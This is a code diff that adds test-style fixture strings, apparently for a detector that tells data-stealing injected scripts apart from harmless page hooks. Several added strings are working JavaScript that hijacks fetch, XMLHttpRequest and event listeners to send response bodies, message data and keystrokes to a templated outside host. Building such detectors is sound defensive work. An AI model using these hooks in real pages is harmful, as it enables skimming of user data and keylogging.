@@ -104,6 +104,38 @@ const taken: readonly (readonly [string, string])[] = [
     'request-body',
     `Object.defineProperty(globalThis, 'fetch', { value: (u, i) => navigator.sendBeacon('${host}', i.body) });`,
   ],
+  [
+    'page-content',
+    `const o = fetch; window.fetch = async (...all) => { const r = await o(...all); navigator.sendBeacon('${host}', await r.clone().text()); return r; };`,
+  ],
+  [
+    'page-content',
+    `((o) => { window.fetch = function () { const p = o.apply(this, arguments); p.then((r) => r.clone().json()).then((j) => navigator.sendBeacon('${host}', JSON.stringify(j))); return p; }; })(window.fetch);`,
+  ],
+  [
+    'page-content',
+    `window.fetch = new Proxy(fetch, { async apply(t, self, all) { const r = await Reflect.apply(t, self, all); navigator.sendBeacon('${host}', await r.clone().text()); return r; } });`,
+  ],
+  [
+    'page-content',
+    `const o = fetch; const tell = (r) => r.text().then((t) => navigator.sendBeacon('${host}', t)); window.fetch = (u, i) => o.call(window, u, i).then((r) => { tell(r.clone()); return r; });`,
+  ],
+  [
+    'page-content',
+    `const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { this.addEventListener('load', function () { navigator.sendBeacon('${host}', this.responseText); }); return send.call(this, b); };`,
+  ],
+  [
+    'page-content',
+    `const on = window.addEventListener; window.addEventListener = function (t, f, ...all) { return on.call(window, t, (e) => { tell(e); f(e); }, ...all); }; function tell(e) { navigator.sendBeacon('${host}', JSON.stringify({ o: e.origin, d: e.data })); }`,
+  ],
+  [
+    'page-content',
+    `const p = EventTarget.prototype, on = p.addEventListener; p.addEventListener = function (t, f) { const all = [].slice.call(arguments); all[1] = function (e) { navigator.sendBeacon('${host}', e.data); return f.apply(this, arguments); }; return on.apply(this, all); };`,
+  ],
+  [
+    'key-input',
+    `EventTarget.prototype.addEventListener = new Proxy(EventTarget.prototype.addEventListener, { apply(t, self, all) { const [, f] = all; all[1] = (e) => { navigator.sendBeacon('${host}', e.key); f(e); }; return Reflect.apply(t, self, all); } });`,
+  ],
 ];
 
 /** Code that hands on what it is handed, to where the page meant it. */
@@ -118,6 +150,11 @@ const handedOn: readonly string[] = [
   `const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { console.log(b); return send.call(this, b); };`,
   `const s = Storage.prototype.setItem; Storage.prototype.setItem = function (k, v) { if (k !== 'ads') s.call(this, k, v); };`,
   `const set = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value').set; set.call(document.querySelector('input'), 'tide'); fetch('${host}', { method: 'POST', body: 'filled' });`,
+  `const o = fetch; window.fetch = async (...all) => { const r = await o(...all); const j = await r.json(); delete j.ads; return new Response(JSON.stringify(j)); };`,
+  `const o = fetch; window.fetch = async (u, i) => { const list = await (await o('${host}list')).text(); navigator.sendBeacon('${host}', list); return o(u, i); };`,
+  `const o = fetch; window.fetch = async (...all) => { const r = await o(...all); navigator.sendBeacon('${host}', String(r.status)); return r; };`,
+  `const on = EventTarget.prototype.addEventListener; EventTarget.prototype.addEventListener = function (t, f, o) { if (t !== 'copy') return on.call(this, t, (e) => f(e), o); };`,
+  `const on = EventTarget.prototype.addEventListener; EventTarget.prototype.addEventListener = function (t, f, o) { navigator.sendBeacon('${host}', [1, 2].map((e) => e + 1)); return on.call(this, t, f, o); };`,
   `let n = 0; const o = fetch; window.fetch = (u, i) => { n += 1; o('${host}', { method: 'POST', body: String(n) }); return o(u, i); };`,
 ];
 
